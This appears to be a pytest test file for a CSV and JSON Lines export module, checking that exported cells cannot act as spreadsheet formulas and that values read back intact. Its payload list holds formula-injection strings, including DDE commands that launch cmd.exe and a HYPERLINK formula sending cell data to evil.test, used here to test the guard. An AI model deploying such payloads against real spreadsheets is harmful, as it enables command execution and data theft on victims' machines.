"""CSV that no spreadsheet calculates (R-054), and JSON Lines: what is written can be read back as it was."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import unicodedata
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from passport.exports import CSVFormat, JSONLinesFormat, make_format, safe_cell, without_guard

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1,"click")',
    "=IMPORTXML(CONCAT(A1),B1)",
    "=WEBSERVICE(A1)",
    "=DDE(A1;B1;C1)",
    '=MSEXCEL|\\..\\..\\Windows\\System32\\cmd.exe!"x"',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "\tx",
    "\rx",
    "\nx",
    "\0x",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x1b=1+1",
    "\x1f@A1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20A1",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bA1",
    "\u22121+1",
    "\u207a1",
    '"=1+1"',
    'x";=1+1',
    "x,=1+1",
    "x;=1+1",
    "x\r\n=1+1",
    "'=1+1",
    "''",
]
FORMULA_STARTS = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20\u2212")


def cells(written: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def is_formula(cell: str) -> bool:
    """As a spreadsheet might look: past what has no shape, and normalised."""
    shape = cell.lstrip(" \u00a0\u3000\u200b\ufeff\u202e\x1b\x1f\0\t\r\n")
    return unicodedata.normalize("NFKC", shape).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula_and_each_can_be_read_back(payload: str) -> None:
    form = CSVFormat(["name", "note"])
    written = form.head() + form.rows([{"name": payload, "note": "x"}])
    assert written.startswith(b"\xef\xbb\xbf")
    heading, row = cells(written)
    assert (heading, row[1]) == (["name", "note"], "x")
    assert not is_formula(row[0])
    assert without_guard(row[0]) == payload


def test_the_payloads_would_be_formulas_unguarded() -> None:
    assert sum(is_formula(payload) for payload in PAYLOADS) >= 32
    assert len(PAYLOADS) >= 40


@given(st.text(st.characters(codec="utf-8"), max_size=30))
def test_any_text_survives_and_begins_no_formula(text: str) -> None:
    form = CSVFormat(["a"])
    ((cell,),) = cells(form.rows([{"a": text}])) if text else ((safe_cell(text),),)
    assert without_guard(cell) == text
    assert not cell.startswith(FORMULA_STARTS)


def test_a_reader_that_splits_at_another_separator_finds_no_unquoted_cell() -> None:
    written = CSVFormat(["a", "b"]).rows([{"a": "x", "b": "y"}])
    assert written == b'"x","y"\r\n'


@pytest.mark.parametrize("text", ["小美", "a-b", "1=1", "mei@example.test", "🙂", "", "微信用户", "x+y"])
def test_what_is_harmless_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_values_that_are_no_texts_are_written_plainly() -> None:
    at = datetime(2026, 11, 22, 8, 30, tzinfo=UTC)
    row = {"n": -5, "none": None, "yes": True, "at": at, "tags": ["=a", "b"], "more": {"k": "v"}}
    assert cells(CSVFormat([*row, "absent"]).rows([row])) == [
        ["-5", "", "true", "2026-11-22T08:30:00.000Z", "'=a, b", '{"k":"v"}', ""]
    ]


def test_json_lines_keep_the_types_and_one_line_each() -> None:
    at = datetime(2026, 11, 22, 8, 30, tzinfo=UTC)
    form = JSONLinesFormat()
    written = form.head() + form.rows([{"n": -5, "at": at, "name": "小\n美\u2028"}, {"n": None}])
    lines = written.split(b"\n")
    assert lines.pop() == b""
    assert [json.loads(line) for line in lines] == [
        {"n": -5, "at": "2026-11-22T08:30:00.000Z", "name": "小\n美\u2028"},
        {"n": None},
    ]
    assert "小" in written.decode()


def test_a_name_that_is_no_format_has_none() -> None:
    with pytest.raises(KeyError):
        make_format("xlsx", [])


def test_memory_is_that_of_one_batch_however_many_are_written() -> None:
    batch = [{"a": "小美" * 10, "b": n} for n in range(200)]
    form = CSVFormat(["a", "b"])
    form.rows(batch)
    tracemalloc.start()
    for _ in range(20):
        form.rows(batch)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 500_000
